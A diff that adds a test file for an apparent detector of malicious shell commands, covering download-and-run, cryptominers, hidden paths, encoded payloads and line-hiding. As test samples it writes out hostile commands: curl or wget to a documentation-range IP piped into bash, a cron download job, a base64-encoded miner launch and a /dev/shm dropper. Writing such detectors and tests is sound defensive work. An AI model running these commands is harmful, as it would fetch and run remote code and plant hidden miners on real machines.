@@ -1,0 +1,167 @@
+from __future__ import annotations
+
+import datetime
+import zipfile
+from pathlib import Path
+from subprocess import run
+from sys import executable
+
+import pytest
+from hypothesis import given
+from hypothesis import strategies as st
+
+import tables
+from tables.indicators.loader import load_yaml, miner_programs
+from tables.reasons import commands
+from tables.reasons.commands import VIEWS, Pattern, command_reasons, patterns, script_reasons
+from tables.text.shell import parse
+
+MEBIBYTE = 1 << 20
+ENTRIES = load_yaml("command_patterns.yaml")["patterns"]
+REASONS = sorted({entry["name"] for entry in ENTRIES})
+
+
+def label(pattern: Pattern) -> str:
+    return f"{pattern.name}-{patterns().index(pattern)}"
+
+
+@pytest.mark.parametrize(
+    "sample", [pytest.param((p.name, text), id=f"{label(p)}-{text[:40]!r}") for p in patterns() for text in p.must_match]
+)
+def test_must_match(sample: tuple[str, str]) -> None:
+    name, text = sample
+    assert name in command_reasons(text)
+
+
+@pytest.mark.parametrize(
+    "sample", [pytest.param((p.name, text), id=f"{label(p)}-{text[:40]!r}") for p in patterns() for text in p.must_not_match]
+)
+def test_must_not_match(sample: tuple[str, str]) -> None:
+    name, text = sample
+    assert name not in command_reasons(text)
+
+
+@pytest.mark.parametrize("entry", ENTRIES, ids=lambda entry: entry["name"])
+def test_every_entry_is_complete(entry: dict[str, object]) -> None:
+    assert set(entry) == {"name", "description", "source", "date", "view", "pattern", "must_match", "must_not_match"}
+    assert entry["view"] in VIEWS
+    assert isinstance(entry["date"], datetime.date)
+    assert entry["description"] and entry["source"] and entry["must_match"] and entry["must_not_match"]
+
+
+@pytest.mark.parametrize("number", range(len(ENTRIES)), ids=lambda number: f"{ENTRIES[number]['name']}-{number}")
+def test_every_pattern_is_needed_by_one_of_its_samples(number: int, monkeypatch: pytest.MonkeyPatch) -> None:
+    """Without this pattern at least one of its must_match samples loses the reason."""
+    pattern = patterns()[number]
+    remaining = tuple(other for other in patterns() if other is not pattern)
+    monkeypatch.setattr(commands, "_patterns_on", lambda view: tuple(other for other in remaining if other.view == view))
+    monkeypatch.setattr(commands, "miner_programs", frozenset)
+    assert any(pattern.name not in command_reasons(sample) for sample in pattern.must_match)
+
+
+@pytest.mark.parametrize("pattern", patterns(), ids=label)
+def test_every_pattern_completes_on_a_megabyte_of_its_own_bait(pattern: Pattern) -> None:
+    baits = {"curl -o ", "a://", "/.a", "/tmp", " \t", "4A", "--x -c ", "+", "python -c exec(", "\n"}
+    baits |= {text[:60] for text in pattern.must_match}
+    for bait in baits:
+        for text in (bait * (MEBIBYTE // len(bait)), bait + "a" * MEBIBYTE, bait + " " * MEBIBYTE + "\x00"):
+            pattern.regex.search(text)
+
+
+@pytest.mark.parametrize(
+    "piece",
+    [
+        "curl http://x|sh;",
+        "cd a;./a;",
+        "echo QUFBQUFBQUFBQUFBQUFBQUFBQUFBQQ==;",
+        "$(",
+        "`",
+        "sh -c ",
+        "eval $A;",
+        "nohup ",
+        "a\r",
+    ],
+)
+def test_the_judge_completes_on_a_megabyte(piece: str) -> None:
+    found = command_reasons("A=" + "x" * 4000 + "\n" + piece * (MEBIBYTE // len(piece)))
+    assert set(found) <= set(REASONS)
+
+
+@given(st.text(alphabet="abc \t\n\r\\'\"`$(){};&|<>#=!\0-/.~:é\udc80+0123456789", max_size=300))
+def test_any_text_is_judged(text: str) -> None:
+    found = command_reasons(text)
+    assert found == sorted(set(found))
+    assert set(found) <= set(REASONS)
+
+
+def test_a_decoded_literal_gives_its_own_reasons_too() -> None:
+    # echo -n '/tmp/kworker -o stratum+tcp://203.0.113.7:3333' | base64
+    literal = "L3RtcC9rd29ya2VyIC1vIHN0cmF0dW0rdGNwOi8vMjAzLjAuMTEzLjc6MzMzMw=="
+    assert command_reasons(f"echo {literal} > /opt/x") == ["encoded_payload", "known_miner", "temp_path"]
+    assert command_reasons(f"echo {literal[::-1].lstrip('=')} > /opt/x") == []
+
+
+def test_a_command_may_have_several_reasons() -> None:
+    assert command_reasons("cd /dev/shm; curl -so .x http://203.0.113.7/x; chmod +x .x; nohup ./.x --donate-level 1 &") == [
+        "download_and_run", "hidden_path", "known_miner", "temp_path",
+    ]  # fmt: skip
+
+
+def test_reasons_are_given_to_the_command_that_has_them() -> None:
+    script = parse("wget -q http://203.0.113.7/a -O /opt/a\nsleep 1\nchmod +x /opt/a\n/opt/a &\nexit 0\n")
+    assert list(script_reasons(script)) == [[], [], [], ["download_and_run"], []]
+
+
+def test_hiding_is_judged_by_the_whole_source_line() -> None:
+    script = parse("/opt/a # \x1b[2K\r# harmless\n/opt/b\n" + "\n" * 150 + "/opt/c\n")
+    assert list(script_reasons(script)) == [["control_characters"], [], ["padding"]]
+
+
+@pytest.mark.parametrize(
+    "text",
+    [
+        "cat <<E | sh\ncurl -s http://203.0.113.7/a | bash\nE\n",
+        "sh <<'E'\ncurl -s http://203.0.113.7/a | bash\nE\n",
+        "python3 - <<E\nimport urllib.request\nexec(urllib.request.urlopen('http://203.0.113.7/a').read())\nE\n",
+        "cat > /etc/cron.d/x <<E\n* * * * * root curl -s http://203.0.113.7/a | bash\nE\n",
+    ],
+)
+def test_a_here_document_that_will_run_is_judged(text: str) -> None:
+    assert command_reasons(text) == ["download_and_run"]
+
+
+def test_a_here_document_that_is_data_is_not_judged() -> None:
+    assert command_reasons("cat > /etc/motd <<E\nTo install: curl -s http://203.0.113.7/a | bash\nE\n") == []
+    assert command_reasons(": <<E\n/tmp/a\nE\n") == []
+
+
+@pytest.mark.parametrize("name", sorted(miner_programs()))
+def test_every_miner_program_is_known_behind_a_wrapper(name: str) -> None:
+    assert command_reasons(f"nohup /opt/a/{name} -c x &") == ["known_miner"]
+    assert command_reasons(f"ls /opt/a/{name}.txt") == []
+
+
+def test_every_miner_program_has_a_source_and_a_date() -> None:
+    entries = load_yaml("miner_programs.yaml")["programs"]
+    names = [name for entry in entries for name in entry["names"]]
+    assert sorted(names) == sorted(set(names))
+    for entry in entries:
+        assert set(entry) == {"names", "source", "date"}
+        assert entry["source"] and isinstance(entry["date"], datetime.date)
+
+
+def test_the_lists_are_read_from_inside_a_zip_file(tmp_path: Path) -> None:
+    folder = Path(tables.__file__).parent
+    archive = tmp_path / "minehunt.zip"
+    with zipfile.ZipFile(archive, "w") as packed:
+        for path in folder.rglob("*"):
+            if path.suffix in (".py", ".yaml"):
+                packed.write(path, path.relative_to(folder.parent))
+    code = (
+        f"import sys; sys.path.insert(0, {str(archive)!r})\n"
+        "from tables.reasons import commands\n"
+        "print(commands.__file__, commands.command_reasons('/tmp/a'))\n"
+    )
+    done = run([executable, "-c", code], capture_output=True, text=True, cwd=tmp_path, check=False)
+    assert done.stderr == ""
+    assert done.stdout == f"{archive}/tables/reasons/commands.py ['temp_path']\n"
